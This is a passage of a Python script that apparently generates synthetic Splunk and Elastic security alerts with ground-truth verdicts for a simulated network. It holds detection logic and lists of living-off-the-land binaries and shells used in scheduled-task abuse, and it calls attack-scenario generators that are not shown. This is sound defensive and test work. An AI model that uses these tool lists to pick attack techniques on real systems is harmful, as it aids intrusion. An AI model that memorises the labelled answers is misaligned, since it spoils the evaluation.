                         ("sysstat_12.5.2-2ubuntu0.2_amd64.deb", "/etc/cron.d/sysstat"),
                         ("e2fsprogs_1.46.5-2ubuntu1.2_amd64.deb", "/etc/cron.d/e2scrub_all")],
              "debian": [("logrotate_3.21.0-1_amd64.deb", "/etc/cron.daily/logrotate"),
                         ("man-db_2.11.2-2_amd64.deb", "/etc/cron.daily/man-db"),
                         ("dpkg_1.21.22_amd64.deb", "/etc/cron.daily/dpkg"),
                         ("certbot_2.1.0-4_all.deb", "/etc/cron.d/certbot"),
                         ("exim4-base_4.96-15+deb12u6_amd64.deb", "/etc/cron.daily/exim4-base")]}
    for h in DEB_LINUX:
        for pkg, path in rng.sample(deb_pk[HOSTS[h]["family"]], 4):
            b_unattended_dpkg(h, rng.randrange(NDAYS), pkg, path)
    for h in ("lnx-web-01", "lnx-web-02", "lnx-web-03"):
        b_snap_certbot(h, rng.randrange(NDAYS))
    for h in RPM_LINUX:
        for path in rng.sample(["/usr/lib/systemd/system/dnf-makecache.service", "/etc/cron.d/0hourly",
                                "/usr/lib/systemd/system/sysstat-collect.service"], 2):
            b_dnf_units(h, rng.choice(wd), path)
    for h, d, usr in (("lnx-bastion-01", 1, "adm_okim"), ("lnx-mon-01", 3, "adm_tpetrov"), ("lnx-ci-01", 4, "adm_rvasquez"),
                      ("lnx-db-01", 8, "adm_okim"), ("lnx-files-01", 9, "adm_tpetrov"), ("lnx-web-01", 11, "adm_rvasquez"),
                      ("lnx-db-02", 15, "adm_okim"), ("lnx-bastion-01", 18, "adm_tpetrov")):
        b_crontab_e(h, d, usr)
    for h in ("lnx-web-01", "lnx-web-02", "lnx-web-03"):
        for d in sorted(rng.sample(range(NDAYS), 4)):
            b_crontab_l(h, d)
    for h in LINUX:
        b_ansible_cron(h, rng.choice(wd[5:8]), "node-exporter-textfile")
    for h in ("lnx-web-01", "lnx-web-02", "lnx-web-03", "lnx-proxy-01"):
        b_ansible_cron(h, rng.choice(wd[10:]), "logrotate-app")
    for h in RPM_LINUX:
        b_puppet_cron(h, rng.randrange(NDAYS), "puppet-report-cleanup")
        b_puppet_cron(h, rng.randrange(NDAYS), "pg-archive-prune" if "db" in h else "tsdb-compact")
    for h in ("lnx-db-01", "lnx-db-02"):
        b_pgbackrest_timer(h, rng.choice(wd[2:6]))
    for h, svc, adm in (("lnx-web-01", "nginx", "adm_rvasquez"), ("lnx-web-02", "nginx", "adm_rvasquez"),
                        ("lnx-web-03", "php8.1-fpm", "adm_rvasquez"), ("lnx-db-01", "postgresql-16", "adm_okim"),
                        ("lnx-db-02", "postgresql-16", "adm_okim"), ("lnx-mon-01", "prometheus", "adm_tpetrov"),
                        ("lnx-mon-01", "grafana-server", "adm_tpetrov"), ("lnx-proxy-01", "squid", "adm_tpetrov"),
                        ("lnx-ci-01", "gitlab-runner", "adm_rvasquez"), ("lnx-files-01", "smbd", "adm_okim"),
                        ("lnx-web-02", "nginx", "adm_rvasquez"), ("lnx-db-01", "pgbouncer", "adm_okim")):
        b_restart(h, rng.choice(wd), svc, adm)
    for d in range(11, NDAYS):
        b_cron_regen("lnx-ci-01", d)
    b_admin_at("lnx-files-01", 5, "adm_tpetrov")
    b_admin_at("lnx-proxy-01", 12, "adm_tpetrov")

    # --- Kubernetes CronJobs from CI/CD and GitOps
    cj = [("payments", "settlement-export", "0 4 * * 1-5", "harbor.%s/payments/settlement-export:2.7.%%d" % DOMAIN),
          ("web", "image-cache-purge", "20 */4 * * *", "harbor.%s/web/cache-purge:1.9.%%d" % DOMAIN),
          ("data", "etl-nightly", "15 1 * * *", "harbor.%s/data/etl:4.2.%%d" % DOMAIN),
          ("platform", "velero-schedule-check", "0 7 * * *", "harbor.%s/platform/velero-check:0.4.%%d" % DOMAIN),
          ("platform", "cert-expiry-report", "30 6 * * 1", "harbor.%s/platform/cert-report:1.1.%%d" % DOMAIN),
          ("analytics", "sessions-rollup", "*/15 * * * *", "harbor.%s/analytics/rollup:3.0.%%d" % DOMAIN)]
    for i, d in enumerate(wd):
        ns, name, sched, img = cj[i % len(cj)]
        b_k8s(d, ns, name, sched, img % (i + 3), "runner" if i % 3 else "argocd")
    for i, d in enumerate(wd[1::2]):
        ns, name, sched, img = cj[(i + 2) % len(cj)]
        b_k8s(d, ns, name, sched, img % (i + 50), "runner")
    for d in (wd[2], wd[7], wd[11], 13, 20):
        ns, name, sched, img = cj[(d * 7) % len(cj)]
        b_k8s(d, ns, name, sched, img % (d + 30), "argocd")
    for d, (ns, name) in ((wd[4], ("monitoring", "kube-state-backup")), (wd[9], ("logging", "loki-compactor-retention")),
                          (wd[13], ("ingress", "geoip-db-update"))):
        b_k8s(d, ns, name, "0 3 * * *", "ghcr.io/contoso-lab/%s:1.0.%d" % (name, d), "flux")

    # --- attacks
    for h, d in (("desk-fin-02", 2), ("desk-fin-04", 2), ("lap-sales-03", 3), ("lap-sup-02", 3)):
        m_qakbot(h, d)
    for h, d, tn in (("lap-legal-01", 7, "AdobeAcrobatUpdaterCheck"), ("lap-sales-05", 7, "AdobeAcrobatUpdaterCheck"),
                     ("desk-fin-05", 8, "Dell SupportAssist Update Check")):
        m_emotet(h, d, tn)
    m_fake_update()
    m_mshta()
    m_lateral()
    m_iis_hidden()
    m_gpo_abuse()
    m_web_rce()
    for h, d in (("lnx-files-01", 16), ("lnx-proxy-01", 16), ("lnx-db-02", 17)):
        m_ssh_miner(h, d)
    m_k8s_token()
    m_atomic_windows()
    m_atomic_linux()


# ----------------------------------------------------------------------------------------------
# Rule logic (re-implementation of the match conditions, case-insensitive like the SIEMs)
# ----------------------------------------------------------------------------------------------

SHELLS = ["powershell.exe", "wscript.exe", "cscript.exe", "cmd.exe", "sh.exe", "ksh.exe", "zsh.exe", "bash.exe",
          "scrcons.exe", "pwsh.exe"]


LOLBAS = [x.lower() for x in (
    "At.exe", "Atbroker.exe", "Bash.exe", "Bitsadmin.exe", "Certoc.exe", "Cmstp.exe", "Diskshadow.exe", "Dnscmd.exe",
    "Extexport.exe", "Forfiles.exe", "Ftp.exe", "Gpscript.exe", "Hh.exe", "Ie4uinit.exe", "Ieexec.exe",
    "Infdefaultinstall.exe", "Installutil.exe", "Mavinject.exe", "Microsoft.Workflow.Compiler.exe", "Msbuild.exe",
    "Msconfig.exe", "Msdt.exe", "Msiexec.exe", "Netsh.exe", "Odbcconf.exe", "OfflineScannerShell.exe", "Pcalua.exe",
    "Pcwrun.exe", "Pnputil.exe", "PresentationHost.exe", "Rasautou.exe", "Regasm.exe", "Register-cimprovider.exe",
    "Regsvcs.exe", "Regsvr32.exe", "Runonce.exe", "Runscripthelper.exe", "Schtasks.exe", "Scriptrunner.exe",
    "SettingSyncHost.exe", "Stordiag.exe", "Syncappvpublishingserver.exe", "Ttdinject.exe", "Mshta.exe",
    "Tttracer.exe", "Verclsid.exe", "Wab.exe", "Wmic.exe", "WorkFolders.exe", "Wuauclt.exe", "Xwizard.exe")]


def task_field(content, tag):
    s = content.find("<%s>" % tag)
    if s < 0:
        return ""
    return content[s + len(tag) + 2:content.find("</%s>" % tag, s)]


def splunk_match(ev):
    k, out = ev["kind"], []
    if k == "proc":
        p, n = ev["cmdline"].lower(), ev["name"].lower()
        if n == "schtasks.exe":
            if "/create " in p and "/ru " in p and "system" in p:
                out.append("Windows Schtasks Create Run As System")
            if "/rl " in p and " highest " in p:
                out.append("Windows Scheduled Task with Highest Privileges")
            if "create" in p and " /xml " in p:
                out.append("Windows Scheduled Task Created Via XML")
            if "/create" in p and " /s " in p:
                out.append("Schtasks scheduling job on remote system")
            if " /s " in p and "/run" in p:
                out.append("Scheduled Task Initiation on Remote Endpoint")
            if "/run" in p:
                out.append("Schtasks Run Task On Demand")
            if "/create" in p and any(d in p for d in ("\\users\\public\\", "\\programdata\\", "windows\\temp")):
                out.append("Suspicious Scheduled Task from Public Directory")
            if "shutdown" in p and "/create " in p:
                out.append("Schtasks used for forcing a reboot")
        if n == "at.exe" and "\\\\" in p:
            out.append("Scheduled Task Creation on Remote Endpoint using At")
        pp = ev["parent_cmdline"].lower()
        if ev["parent_name"].lower() == "svchost.exe" and n in LOLBAS and not (
                n == "gpscript.exe" and ("-k gpsvcgroup" in pp or pp.endswith(("-k netsvcs", "-k netsvcs -p", "-s gpsvc")))) \
                and not (n in ("wuauclt.exe", "schtasks.exe") and pp.endswith(("-k netsvcs", "-k netsvcs -p", "-s wuauserv",
                                                                                "-k netsvcs -p -s schedule"))) \
                and not ("-k dcomlaunch" in pp and n in ("presentationhost.exe", "settingsynchost.exe")):
            out.append("Svchost LOLBAS Execution Process Spawn")
    elif k == "4698":
        c = ev["content"].lower()
        if any(s in c for s in SHELLS):
            out.append("WinEvent Scheduled Task Created to Spawn Shell")
        if "http" in task_field(ev["content"], "Arguments").lower():
            out.append("Schedule Task with HTTP Command Arguments")
        if "rundll32" in task_field(ev["content"], "Command").lower():
            out.append("Schedule Task with Rundll32 Command Trigger")
        if task_field(ev["content"], "Hidden") == "true":
            out.append("Windows Hidden Schedule Task Settings")
    elif k == "reg":
        if "\\currentversion\\schedule\\configuration" in ev["cmdline"].lower() and "enableat" in ev["cmdline"].lower():
            out.append("Windows Enable Win32 ScheduledJob via Registry")
    elif k == "lfile":
        fp = ev["path"]
        if "/etc/cron" in fp or "/var/spool/cron/" in fp:
            out.append("Linux Add Files In Known Crontab Directories")
        if any(fp.startswith(d) for d in ("/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system",
                                          "/run/systemd/system")) and fp.endswith(".service"):
            out.append("Linux Service File Created In Systemd Directory")
    elif k == "lproc":
        p, n = ev["cmdline"], ev["name"]
        if any(d in p for d in ("/etc/cron", "/var/spool/cron/", "/etc/anacrontab")) and "echo" in p:
            out.append("Linux Possible Append Cronjob Entry on Existing Cronjob File")
        if n == "crontab" and "crontab " in p and " -e" in p:
            out.append("Linux Edit Cron Table Parameter")
        if n == "crontab" and " -l" in p:
            out.append("Linux Adding Crontab Using List Parameter")
        if n in ("systemctl", "service") and ("systemctl " in p or "service " in p):
            if " start " in p or " enable " in p:
                out.append("Linux Service Started Or Enabled")
            if any(v in p for v in ("restart", "reload", "reenable")):
                out.append("Linux Service Restarted")
        if n in ("at", "atd") or ev["parent_name"] in ("at", "atd"):
            out.append("Linux At Application Execution")
    elif k == "k8s":
        out.append("Kubernetes Cron Job Creation")
    return out


CREATED_EXCL = ["\\CreateExplorerShellUnelevatedTask", "\\Hewlett-Packard\\HPDeviceCheck",
                "\\Hewlett-Packard\\HP Support Assistant\\WarrantyChecker",
                "\\Hewlett-Packard\\HP Support Assistant\\WarrantyChecker_backup",
                "\\Hewlett-Packard\\HP Web Products Detection", "\\Microsoft\\VisualStudio\\Updates\\BackgroundDownload",
                "\\OneDrive Standalone Update Task-S-1-5-21*", "\\OneDrive Standalone Update Task-S-1-12-1-*",
                "\\SoftLanding\\S-1-5-21-*\\SoftLanding*", "\\SoftLanding\\S-1-12-*\\SoftLanding*",
                "\\OneDrive Reporting Task-S-1-5-21-*", "\\OneDrive Reporting Task-S-1-12-1-*",
                "\\GoogleUserPEH\\RunPlatformExperienceHelper*", "\\Mozilla\\Firefox Default Browser Agent*",
                "\\Microsoft\\Office\\Office Background Push Maintenance", "\\Microsoft\\Windows\\GroupPolicy\\GPUpdate"]
UPDATED_EXCL = ["\\User_Feed_Synchronization-*", "\\OneDrive Reporting Task-S-1-5-21*",
                "\\OneDrive Reporting Task-S-1-12-1-*", "\\OneDrive Standalone Update Task-S-1-5-21*",
                "\\OneDrive Standalone Update Task-S-1-12-1-*", "\\Hewlett-Packard\\HP Web Products Detection",
                "\\Hewlett-Packard\\HPDeviceCheck", "\\Mozilla\\Firefox Default Browser Agent*"]
LOCAL_PARENTS = ["cmd.exe", "wscript.exe", "rundll32.exe", "regsvr32.exe", "wmic.exe", "mshta.exe", "cscript.exe",
                 "powershell.exe", "pwsh.exe", "powershell_ise.exe", "wmiprvse.exe", "wsmprovhost.exe", "winrshost.exe"]
SUSP_RUN_IMAGES = ["cscript.exe", "wscript.exe", "powershell.exe", "cmd.exe", "mshta.exe", "rundll32.exe", "regsvr32.exe",
                   "msbuild.exe", "installutil.exe", "regasm.exe", "regsvcs.exe", "msxsl.exe", "control.exe",
                   "explorer.exe", "microsoft.workflow.compiler.exe", "msiexec.exe"]
SUSP_RUN_DIRS = ("c:\\users\\", "c:\\programdata\\", "c:\\windows\\temp\\", "c:\\windows\\tasks\\",
                 "c:\\perflogs\\", "c:\\intel\\", "c:\\windows\\debug\\", "c:\\hp\\")
CRON_EXCL = ["dpkg", "dockerd", "rpm", "snapd", "yum", "dnf", "crontab", "crond", "puppet", "sed", "perl",
             "executor", "droplet-agent.postinst"]


def elastic_match(ev):
    k, out = ev["kind"], []
    if k == "4698":
        if not ev["subject"][1].endswith("$") and not any(
                fnmatch.fnmatchcase(ev["task_name"].lower(), x.lower()) for x in CREATED_EXCL):
            out.append("A scheduled task was created")
        if ev["client_pid"] == "0":
            out.append("Remote Scheduled Task Creation via RPC")
    elif k == "4702":
        if (not ev["subject"][1].endswith("$") and "microsoft" not in ev["task_name"].lower()
                and ev["subject"][2] not in ("S-1-5-18", "S-1-5-19", "S-1-5-20")
                and not any(fnmatch.fnmatchcase(ev["task_name"].lower(), x.lower()) for x in UPDATED_EXCL)):
            out.append("A scheduled task was updated")
    elif k == "tmp_task":
        out.append("Temporarily Scheduled Task Creation")
    elif k == "script_task":
        out.append("Scheduled Task Created by a Windows Script")
    elif k == "proc":
        n, args = ev["name"].lower(), [a.lower() for a in win_args(ev["cmdline"])]
        if (n == "schtasks.exe" and ("/create" in args or "-create" in args) and ev["integrity"] != "system"
                and any(a in args for a in ("/ru", "/sc", "/tn", "/tr", "/f", "/xml"))
                and (ev["parent_name"].lower() in LOCAL_PARENTS or not ev["parent_trusted"])):
            out.append("Local Scheduled Task Creation")
        if n == "at.exe" and any(a.startswith("\\\\") for a in args):
            out.append("At.exe Command Lateral Movement")
        pname, uid = ev["name"].lower(), ev["user"][2]
        if (ev["parent_name"].lower() == "svchost.exe" and "schedule" in [a.lower() for a in win_args(ev["parent_cmdline"])]
                and ev["original"].lower() in SUSP_RUN_IMAGES and any(a.startswith(SUSP_RUN_DIRS) for a in args)
                and not (pname == "cmd.exe" and any(fnmatch.fnmatchcase(a, "?:\\*.bat") for a in args)
                         and (ev.get("cwd") or "").lower().endswith(":\\windows\\system32\\"))
                and not (pname == "cscript.exe" and any(a.endswith("\\windows\\system32\\calluxxprovider.vbs") for a in args))
                and not (pname == "powershell.exe" and ("-file" in args or "-psconsolefile" in args) and uid == "S-1-5-18")
                and not (pname == "msiexec.exe" and uid == "S-1-5-18")):
            out.append("Suspicious Execution via Scheduled Task")
    elif k == "wfile":
        p = ev["path"].lower()
        if fnmatch.fnmatchcase(p, "?:\\windows\\tasks\\*.job") and "ccleaner" not in p and "dcagentupdater" not in p:
            out.append("Persistence via Scheduled Job Creation")
        if fnmatch.fnmatchcase(p, "?:\\windows\\sysvol\\domain\\policies\\*\\machine\\preferences\\scheduledtasks\\scheduledtasks.xml") \
                and ev["name"].lower() != "dfsrs.exe":
            out.append("Creation or Modification of a new GPO Scheduled Task or Service")
    elif k == "5145":
        if ev["rel"].lower().endswith("scheduledtasks.xml"):
            out.append("Scheduled Task Execution at Scale via GPO")
    elif k == "reg":
        out.append("Scheduled Tasks AT Command Enabled")
    elif k == "lfile":
        p = ev["path"]
        if ev["action"] in ("creation", "rename") and ev["name"] not in CRON_EXCL and not p.endswith((".swp", ".dpkg-new")):
            if (p in ("/etc/cron.allow", "/etc/cron.deny", "/etc/crontab")
                    or p.startswith(("/etc/cron.d/", "/etc/cron.hourly/", "/etc/cron.daily/", "/etc/cron.weekly/",
                                     "/etc/cron.monthly/", "/var/spool/cron/crontabs/"))):
                out.append("Cron Job Created or Modified")
            if p.endswith(".timer") and p.startswith(("/etc/systemd/system/", "/etc/systemd/user/",
                                                      "/usr/local/lib/systemd/system/", "/lib/systemd/system/",
                                                      "/usr/lib/systemd/system/")):
                out.append("Systemd Timer Created")
            if p.startswith("/var/spool/cron/atjobs/"):
                out.append("At Job Created or Modified")
    elif k == "lproc":
        args = lin_args(ev["cmdline"])
        if (ev["name"] == "crontab" and ev["parent_name"] == "cron" and ev["user"] != "root"
                and not any(a in ("-l", "-r", "-e", "-help", "-h") for a in args)):
            out.append("Potential Persistence via Cron Job")
        if ev["name"] == "kubectl" and "run" in args and "--restart=Never" in args and "--" in args \
                and any(a in ("sh", "bash", "dash") for a in args) and "cron" in ev["cmdline"]:
            out.append("Pod or Container Creation with Suspicious Command-Line")
    return out


def win_args(cmd):
    """CommandLineToArgvW-like split (quotes, backslash-quote escapes)."""
    args, cur, inq, has, i = [], "", False, False, 0
    while i < len(cmd):
        c = cmd[i]
        if c == "\\":
            j = i
            while j < len(cmd) and cmd[j] == "\\":
                j += 1
            n = j - i
            if j < len(cmd) and cmd[j] == '"':
                cur += "\\" * (n // 2)
                if n % 2:
                    cur += '"'
                    i = j + 1
                else:
                    i = j
                has = True
                continue
            cur += "\\" * n
            i, has = j, True
            continue
        if c == '"':
            inq, has, i = not inq, True, i + 1
            continue
        if c in " \t" and not inq:
            if has:
                args.append(cur)
            cur, has, i = "", False, i + 1
            continue
        cur, has, i = cur + c, True, i + 1
    if has:
        args.append(cur)
    return args


def lin_args(cmd):
    try:
        return shlex.split(cmd)
    except ValueError:
        return cmd.split()


# ----------------------------------------------------------------------------------------------
# Splunk ES notables
# ----------------------------------------------------------------------------------------------

SPLUNK_HEADER = ["_time", "rule_name", "search_name", "urgency", "severity", "status_label", "owner", "event_id", "dest",
                 "user", "parent_process_name", "parent_process_path", "parent_process", "process_name",
                 "process_path", "process", "process_id", "parent_process_id", "file_path", "src_ip", "TaskName",
                 "objectRef.namespace", "objectRef.name", "requestObject.spec.schedule", "image", "userAgent"]
LEVELS = ["informational", "low", "medium", "high", "critical"]
ANALYSTS = ["mfischer", "ncho", "pwalsh"]


def splunk_severity(score):
    return "high" if score >= 70 else "medium" if score >= 40 else "low"


def urgency(sev, host):
    prio = "unknown" if host is None else {"wks": "medium", "dc": "critical"}.get(HOSTS[host]["kind"], "high")
    s = LEVELS.index(sev)
    bump = {"unknown": 0, "low": -1, "medium": 0, "high": 1, "critical": 1}[prio]
    return LEVELS[max(1, min(4, s + bump))]


def triage_state(verdict, day):
    """Workflow state as the SOC left it at export time (2027-02-22 morning)."""
    r = rng.random()
    if day >= NDAYS - 2:
        return ("new", None) if r < 0.8 else ("in_progress", rng.choice(ANALYSTS))
    if verdict == "malicious":
        return ("in_progress", "ncho") if r < 0.6 else ("resolved", rng.choice(["ncho", "mfischer"]))
    if r < 0.55:
        return ("closed", rng.choice(ANALYSTS))
    if r < 0.8:
        return ("resolved", rng.choice(ANALYSTS))
    return ("new", None) if r < 0.93 else ("in_progress", rng.choice(ANALYSTS))


def day_of(ev):
    return (ev["time"].astimezone(TZ).date() - START_DAY.date()).days


def user_str(u):
    dom, name, _sid = u
    return "NT AUTHORITY\\SYSTEM" if name.endswith("$") or name == "SYSTEM" else "%s\\%s" % (dom, name)


def check_notes(rule, st, carried):
    if st["verdict"] != "benign":
        return []
    if rule not in st["notes"]:
        raise SystemExit("benign story %r fires %r but gives no note list for it" % (st["scenario"], rule))
    notes = st["notes"][rule]
    bad_notes = [n for n in notes if n not in carried]
    if bad_notes:
        raise SystemExit("story %r: rule %r does not carry notes %r" % (st["scenario"], rule, bad_notes))
    return notes


def make_notable(rule, ev):
    escu_id, score, carried = SPLUNK_RULES[rule]
    notes = check_notes(rule, ev["story"], carried)
    when = ev["time"] + timedelta(minutes=rng.randrange(2, 9), seconds=rng.randrange(60), milliseconds=rng.randrange(1000))
    sev = splunk_severity(score)
    state, owner = triage_state(ev["story"]["verdict"], day_of(ev))
    label = {"new": "New", "in_progress": rng.choice(["In Progress", "Pending"]) if ev["story"]["verdict"] == "benign"
             else "In Progress", "resolved": "Resolved", "closed": "Closed"}[state]
    row = dict.fromkeys(SPLUNK_HEADER, "")
    row.update({
        "_time": fmt_splunk(when), "rule_name": rule, "search_name": "ESCU - %s - Rule" % rule,
        "severity": sev, "urgency": urgency(sev, ev["host"]), "status_label": label, "owner": owner or "unassigned",
        "event_id": "%s@@notable@@%s" % (det_uuid("notable", rule, ev["seq"], upper=True), det_hex("nb", rule, ev["seq"])),
    })
    if ev["host"]:
        row["dest"] = HOSTS[ev["host"]]["fqdn"]
    k = ev["kind"]
    if k == "proc":
        row.update(user=user_str(ev["user"]), parent_process_name=ev["parent_name"], parent_process_path=ev["parent_image"],
                   parent_process=ev["parent_cmdline"], process_name=ev["name"], process_path=ev["image"],
                   process=ev["cmdline"], process_id=str(ev["pid"]), parent_process_id=str(ev["ppid"]))
    elif k == "4698":
        row.update(user=user_str(ev["subject"]), TaskName=ev["task_name"])
    elif k == "reg":
        row.update(user=user_str(ev["user"]), process_name="reg.exe", process_path=ev["image"], process=ev["cmdline"],
                   process_id=str(ev["pid"]))
    elif k in ("lproc", "lfile"):
        row.update(user=ev["user"], process_name=ev["name"], process_path=ev["image"], process=ev["cmdline"],
                   process_id=str(ev["pid"]), parent_process_name=ev["parent_name"], parent_process_path=ev["parent_image"],
                   parent_process=ev["parent_cmdline"] or "", parent_process_id=str(ev["ppid"]))
        if k == "lfile":
            row["file_path"] = ev["path"]
    elif k == "k8s":
        row.update({"user": ev["user"], "src_ip": ev["src_ip"], "objectRef.namespace": ev["ns"], "objectRef.name": ev["name"],
                    "requestObject.spec.schedule": ev["schedule"], "image": ev["image"], "userAgent": ev["ua"]})
    return row, when, dict(verdict=ev["story"]["verdict"], notes=notes, scenario=ev["story"]["scenario"])


# ----------------------------------------------------------------------------------------------
# Elastic alerts
# ----------------------------------------------------------------------------------------------

KIBANA_VERSION = "8.17.2"
EXPORT_TIME = datetime(2027, 2, 22, 8, 45, tzinfo=TZ)  # when the analyst exported both files
ALERT_INDEX = ".internal.alerts-security.alerts-default-000004"


def threat_block(entries):
    out = []
    for (tid, tname), sub in entries:
        if sub:
            tech = {"id": "T1053", "name": "Scheduled Task/Job", "reference": "https://attack.mitre.org/techniques/T1053/",
                    "subtechnique": [{"id": sub, "name": SUB[sub],
                                      "reference": "https://attack.mitre.org/techniques/T1053/%s/" % sub.split(".")[1]}]}
        else:
            t_id, t_name = TACTIC_TECH[tid]
            tech = {"id": t_id, "name": t_name, "reference": "https://attack.mitre.org/techniques/%s/" % t_id}
        out.append({"framework": "MITRE ATT&CK",
                    "tactic": {"id": tid, "name": tname, "reference": "https://attack.mitre.org/tactics/%s/" % tid},
                    "technique": [tech]})
    return out


def host_obj(h, full=True):
    H = HOSTS[h]
    if H["kind"] == "linux":
        name, fam, ver = LINUX_OS[H["family"]]
        os_ = {"type": "linux", "family": fam, "name": name, "version": ver}
    else:
        os_ = {"type": "windows", "family": "windows", "name": H["os_name"], "version": "10.0"}
    if not full:
        return {"name": h, "os": {"type": os_["type"]}}
    return {"name": h, "hostname": h, "id": H["id"], "ip": [H["ip"]], "os": os_}


def user_obj(u):
    dom, name, sid = u
    return {"name": name, "domain": dom, "id": sid}


def luser_obj(ev):
    return {"name": ev["user"], "id": ev["uid"]}


def ancestor_id():
    return "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-") for _ in range(20))


def entity_id(host, pid, when):
    return base64.b64encode(("%s-%d-%d" % (HOSTS[host]["id"], pid, int(when.timestamp()))).encode()).decode()


def win_event_obj(ev, code):
    action = {"4698": "scheduled-task-created", "4699": "scheduled-task-deleted", "4702": "scheduled-task-updated"}[code]
    typ = {"4698": ["creation", "admin"], "4699": ["deletion", "admin"], "4702": ["change", "admin"]}[code]
    return {"code": code, "action": action, "category": ["iam", "configuration"], "type": typ,
            "provider": "Microsoft-Windows-Security-Auditing", "outcome": "success", "module": "system",
            "dataset": "system.security", "created": fmt_z(ev["time"] + timedelta(seconds=2)),
            "ingested": fmt_z(ev["time"] + timedelta(seconds=9))}


def ed_fqdn(host):
    return host.upper() + "." + DOMAIN


def winlog_task(ev, code):
    dom, name, sid = ev["subject"]
    content_key = "TaskContentNew" if code == "4702" else "TaskContent"
    ed = {"SubjectUserSid": sid, "SubjectUserName": name, "SubjectDomainName": dom, "SubjectLogonId": ev["logon_id"],
          "TaskName": ev["task_name"], content_key: ev["content"],
          "ClientProcessStartKey": "0" if ev["client_pid"] == "0" else str(rng.randrange(10 ** 15, 6 * 10 ** 15)),
          "ClientProcessId": ev["client_pid"], "ParentProcessId": ev["parent_pid"], "RpcCallClientLocality": "0",
          "FQDN": ed_fqdn(ev["host"])}
    return {"channel": "Security", "computer_name": ed["FQDN"], "event_id": code,
            "provider_name": "Microsoft-Windows-Security-Auditing",
            "provider_guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "record_id": ev["record_id"], "version": 1,
            "keywords": ["Audit Success"], "process": {"pid": 712, "thread": {"id": rng.randrange(1000, 9000)}},
            "event_data": ed}


def task_message(ev, code):
    dom, name, sid = ev["subject"]
    title = {"4698": "A scheduled task was created.", "4699": "A scheduled task was deleted.",
             "4702": "A scheduled task was updated."}[code]
    label = "Task New Content" if code == "4702" else "Task Content"
    return ("%s\n\nSubject:\n\tSecurity ID:\t\t%s\n\tAccount Name:\t\t%s\n\tAccount Domain:\t\t%s\n\tLogon ID:\t\t%s\n\n"
            "Task Information:\n\tTask Name: \t\t%s\n\t%s: \t\t%s" % (title, sid, name, dom, ev["logon_id"],
                                                                 ev["task_name"], label, ev["content"]))


def proc_obj(ev):
    args = win_args(ev["cmdline"])
    p = {"name": ev["name"], "executable": ev["image"], "command_line": ev["cmdline"], "args": args,
         "args_count": len(args), "pid": ev["pid"], "entity_id": entity_id(ev["host"], ev["pid"], ev["time"]),
         "pe": {"original_file_name": ev["original"]},
         "code_signature": {"trusted": True, "subject_name": "Microsoft Windows", "status": "trusted"},
         "Ext": {"token": {"integrity_level_name": ev["integrity"], "elevation": ev["integrity"] in ("high", "system")}}}
    if ev.get("cwd"):
        p["working_directory"] = ev["cwd"]
    par = {"name": ev["parent_name"], "executable": ev["parent_image"], "command_line": ev["parent_cmdline"],
           "args": win_args(ev["parent_cmdline"]), "pid": ev["ppid"],
           "entity_id": entity_id(ev["host"], ev["ppid"], ev["time"] - timedelta(seconds=30))}
    if ev["parent_trusted"]:
        par["code_signature"] = {"trusted": True, "subject_name": ev["parent_signer"], "status": "trusted"}
    else:
        par["code_signature"] = {"trusted": False, "exists": False}
    p["parent"] = par
    return p


def lproc_obj(ev):
    args = lin_args(ev["cmdline"])
    p = {"name": ev["name"], "executable": ev["image"], "command_line": ev["cmdline"], "args": args,
         "args_count": len(args), "pid": ev["pid"], "entity_id": entity_id(ev["host"], ev["pid"], ev["time"]),
         "parent": {"name": ev["parent_name"], "executable": ev["parent_image"], "pid": ev["ppid"]}}
    if ev.get("parent_cmdline"):
        p["parent"]["command_line"] = ev["parent_cmdline"]
    return p


def reason(rule, sev, ev, category, extra=""):
    host = ev["host"]
    if "user" in ev and isinstance(ev["user"], tuple):
        uname = ev["user"][1]
    elif "subject" in ev:
        uname = ev["subject"][1]
    else:
        uname = ev.get("user")
    return "%s event%s%sby %s on %s created %s alert %s." % (category, extra, ", " if extra else " ", uname, host, sev,
                                                             rule)


class AlertSink:
    def __init__(self):
        self.docs = []  # (sort_time, seq, doc, gt)

    def add(self, rule, ev, parts, gt, when_alert, workflow):
        """parts: list of (body dict, original_time, ancestors, bb_index or None); first part is the shell when a group."""
        R = ELASTIC_RULES[rule]
        group_id = det_hex("grp", rule, ev["seq"], n=64) if len(parts) > 1 else None
        for body, orig, anc, bb in parts:
            uid = det_hex("alert", rule, ev["seq"], bb if bb is not None else "shell", n=64)
            src = {"@timestamp": fmt_z(when_alert), "kibana.alert.rule.name": rule,
                   "kibana.alert.rule.uuid": det_uuid("kibana-rule", rule), "kibana.alert.rule.rule_id": R["rule_id"],
                   "kibana.alert.rule.type": R["type"],
                   "kibana.alert.rule.category": "Event Correlation Rule" if R["type"] == "eql" else "Custom Query Rule",
                   "kibana.alert.rule.rule_type_id": "siem.eqlRule" if R["type"] == "eql" else "siem.queryRule",
                   "kibana.alert.rule.consumer": "siem", "kibana.alert.rule.producer": "siem",
                   "kibana.alert.rule.version": R["version"], "kibana.alert.rule.false_positives": list(R["fp"]),
                   "kibana.alert.rule.threat": threat_block(R["threat"]), "kibana.alert.rule.tags": list(R["tags"]),
                   "kibana.alert.severity": R["severity"], "kibana.alert.risk_score": R["risk"],
                   "kibana.alert.workflow_status": workflow[0]}
            if workflow[0] != "open":
                src["kibana.alert.workflow_status_updated_at"] = fmt_z(workflow[1])
            src["kibana.alert.workflow_tags"] = list(workflow[2])
            src["kibana.alert.workflow_assignee_ids"] = []
            src["kibana.alert.status"] = "active"
            src["kibana.alert.reason"] = body.pop("_reason")
            src["kibana.alert.original_time"] = fmt_z(orig)
            src["kibana.alert.depth"] = 1
            src["kibana.alert.ancestors"] = anc
            if group_id:
                if bb is not None:
                    src["kibana.alert.building_block_type"] = "default"
                src["kibana.alert.group.id"] = group_id
                if bb is not None:
                    src["kibana.alert.group.index"] = bb
            src["kibana.space_ids"] = ["default"]
            src["kibana.version"] = KIBANA_VERSION
            src["event.kind"] = "signal"
            src.update(body)
            src["kibana.alert.uuid"] = uid
            self.docs.append((when_alert, len(self.docs), {"_index": ALERT_INDEX, "_id": uid, "_source": src}, gt))


def elastic_workflow(verdict, day, when):
    r = rng.random()
    upd = min(when + timedelta(hours=rng.randrange(1, 30), minutes=rng.randrange(60), milliseconds=rng.randrange(1000)),
              EXPORT_TIME - timedelta(minutes=rng.randrange(30, 600)))
    if day >= NDAYS - 2:
